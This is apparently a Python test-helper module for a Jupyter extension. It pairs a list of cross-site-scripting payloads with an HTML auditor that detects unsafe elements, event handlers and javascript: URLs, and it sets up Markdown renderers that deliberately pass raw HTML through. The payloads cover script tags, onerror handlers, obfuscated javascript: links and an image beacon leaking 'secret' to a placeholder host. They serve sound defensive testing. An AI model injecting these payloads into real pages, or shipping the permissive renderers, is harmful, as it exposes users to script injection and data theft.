"""Hostile text for the untrusted-output tests, and an auditor for the HTML it ends up in.

Each payload sets ``window.__pwned`` if a browser ever runs it (tests/browser/test_xss_browser.py
checks that sentinel in a real JupyterLab); the unit tests (tests/display/test_untrusted.py) audit the
HTML every renderer produces, directly or through two Markdown renderers that allow raw HTML.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable
from html.parser import HTMLParser

SENTINEL = "__pwned"

PAYLOADS: dict[str, str] = {
    "script": "<script>window.__pwned=1</script>",
    "img onerror": '<img src=x onerror="window.__pwned=1">',
    "svg onload": '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
    "closing details": '</summary></details></div><img src=x onerror="window.__pwned=1">',
    "javascript link": "[click me](javascript:window.__pwned=1)",
    "entity link": "[entity](java&#115;cript:window.__pwned=1)",
    "escaped-colon link": "[colon](javascript\\:window.__pwned=1)",
    "escaped-bracket link": "[bracket\\](javascript:window.__pwned=1)",
    "reference link": "[ref][r]\n\n[r]: javascript:window.__pwned=1",
    "autolink": "<javascript:window.__pwned=1>",
    "raw anchor": '<a href="javascript:window.__pwned=1">anchor</a>',
    "iframe": '<iframe src="javascript:window.__pwned=1"></iframe>',
    "image": "![pic](javascript:window.__pwned=1) ![beacon](https://example.invalid/leak.png?d=secret)",
    "backtick": "tick`<img src=x onerror=\"window.__pwned=1\">`tock",
    "fence closed by marked": "```\ncode\n```~\n<img src=x onerror=\"window.__pwned=1\">\n```",
    "fence in a list": "- a\n\n  ```\n  b\n- c\n<img src=x onerror=\"window.__pwned=1\">",
    "table cell": "| a | b |\n|---|---|\n| <img src=x onerror=\"window.__pwned=1\"> | [x](javascript:window.__pwned=1) |",
    "html comment": "<!-- --><img src=x onerror=\"window.__pwned=1\"><!-- -->",
    "math href": "$\\href{javascript:window.__pwned=1}{math link}$",
    "style": "<style>body{display:none}</style>",
}

HOSTILE = "\n\n".join(f"{name}: {text}" if "\n" not in text else text for name, text in PAYLOADS.items())
# a session name with backticks and a tag that needs no spaces (so %agent new takes it as one word)
HOSTILE_NAME = "x`<img/src/onerror=window.__pwned=1>`y"

SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
MARKDOWN_TAGS = {"a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol",
                 "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}


def dangerous_url(value: str) -> bool:
    """The URL parser's view (WHATWG): leading/trailing C0 and spaces stripped, tabs and newlines
    removed anywhere; any scheme but http(s)/mailto counts."""
    value = re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", value)
    value = re.sub(r"[\t\n\r]", "", value)
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", value)
    return bool(match) and match.group(1).lower() not in SAFE_SCHEMES


class _Audit(HTMLParser):
    def __init__(self, allowed: set[str]):
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.problems: list[str] = []
        self.stack: list[str] = []

    def _tag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.allowed:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"handler {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES and dangerous_url(value):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and re.search(r"url\s*\(|expression\s*\(", value, re.IGNORECASE):
                self.problems.append(f"style={value!r} on <{tag}>")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag, attrs)
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"</{tag}> closes {self.stack[-1] if self.stack else 'nothing'}")
            return
        self.stack.pop()

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment <!--{data}-->")


def audit_html(fragment: str, allowed: set[str]) -> list[str]:
    """What is wrong with ``fragment`` as a trusted output: elements outside ``allowed``, event
    handlers, unsafe URLs, an end tag that closes an element it did not open, unclosed elements."""
    parser = _Audit(allowed)
    parser.feed(fragment)
    parser.close()
    return parser.problems + [f"<{tag}> never closed" for tag in parser.stack]


def markdown_oracles() -> dict[str, Callable[[str], str]]:
    """Two independent Markdown renderers that DO pass raw HTML and every link through: whatever
    unsafe survives a Markdown source shows up in their HTML."""
    import markdown_it
    import mistune

    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True

    class RawRenderer(mistune.HTMLRenderer):
        def safe_url(self, url: str) -> str:
            return html.escape(url, quote=True)

    mist = mistune.create_markdown(escape=False, renderer=RawRenderer(escape=False),
                                   plugins=["table", "strikethrough"])
    return {"markdown-it (html on)": md.render, "mistune (escape off)": mist}
